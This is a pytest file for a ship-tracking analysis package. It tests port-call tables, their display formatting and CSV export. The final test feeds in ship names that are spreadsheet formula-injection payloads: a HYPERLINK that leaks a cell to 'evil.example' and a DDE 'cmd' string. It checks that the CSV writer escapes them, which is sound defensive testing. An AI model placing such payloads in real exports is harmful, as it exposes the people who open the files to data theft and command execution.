"""Tests for tumen.analyses.shuttle.tables: the port-call table as the report shows it and as port_calls.csv.

The scenario of the fixtures: see shuttle_scenario.py.
"""

from shuttle_scenario import h

from tumen.ais import tracks
from tumen.analyses.shuttle import calls as shuttle_calls
from tumen.analyses.shuttle import tables as shuttle_tables


def test_port_call_table_and_window(positions, sites, sightings, calls):
    table = shuttle_tables.to_port_call_table(calls, {"rajin_port": "Rajin"})
    assert table.loc[0, ["arrival_earliest", "first_evidence", "port"]].tolist() == [
        "",
        "2023-09-01T00:00Z",
        "dunai_port",
    ]
    assert table.loc[1, "port"] == "Rajin"
    ais_calls = tracks.get_ais_port_calls(positions, sites)
    early = shuttle_calls.get_port_calls(
        ais_calls, sightings, positions, sites, window=("2023-09-01", "2023-09-04")
    )
    # calls 1 (h 0-4), 2 (h 51-57), Maria's Rajin call (h 36); call 3 starts at h 104
    assert early[["vessel", "first_evidence"]].values.tolist() == [
        ["Angara", h(0)],
        ["Angara", h(51)],
        ["Maria", h(36)],
    ]


def test_port_call_display_and_file(tmp_path, calls):
    table = shuttle_tables.to_port_call_display(
        calls, {"rajin_port": "Rajin", "dunai_port": "Dunai"}
    )
    assert table.columns.tolist() == [
        "call",
        "vessel",
        "port",
        "arrived after",
        "seen",
        "left before",
        "evidence",
        "containers",
        "AIS dark",
    ]
    nbsp = lambda text: text.replace(" ", "\u00a0")  # noqa: E731
    assert table.iloc[1].tolist() == [
        2,
        "Angara",
        "Rajin",
        nbsp("01 Sep 06:00"),
        nbsp("03 Sep 03:00") + " – " + nbsp("03 Sep 09:00"),
        nbsp("05 Sep 06:00"),
        "2 images",
        "120–150",
        "yes",
    ]
    assert table.iloc[4]["seen"] == nbsp("09 Sep 06:00")  # one image: one time
    assert table.iloc[0][["arrived after", "evidence", "containers", "AIS dark"]].tolist() == [
        "",
        "AIS (3 fixes)",
        "",
        "no",
    ]
    assert table.iloc[2][["evidence", "containers"]].tolist() == ["AIS (2 fixes), 1 image", "140"]
    path = tmp_path / "calls.csv"
    shuttle_tables.write_port_calls(calls, path, {"rajin_port": "Rajin"})
    raw = path.read_bytes()
    assert b"\r" not in raw and raw.startswith(b"call_id,vessel,site,port,")
    assert len(raw.decode("utf-8").splitlines()) == len(calls) + 1


def test_port_calls_file_neutralises_formulas_from_ship_names(tmp_path, calls):
    """A ship that broadcasts a spreadsheet formula as its name gets it written as text."""
    import csv

    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Angara")'
    hostile = calls.assign(
        vessel=[evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "Maria"] * (len(calls) // 5)
        + ["Maria"] * (len(calls) % 5)
    )
    path = tmp_path / "calls.csv"
    shuttle_tables.write_port_calls(hostile, path, {"rajin_port": "Rajin"})
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    names = [r["vessel"] for r in rows]
    assert names[:5] == ["'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "Maria"]
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    # numbers stay numbers
    assert all(r["call_id"].lstrip("-").isdigit() for r in rows)
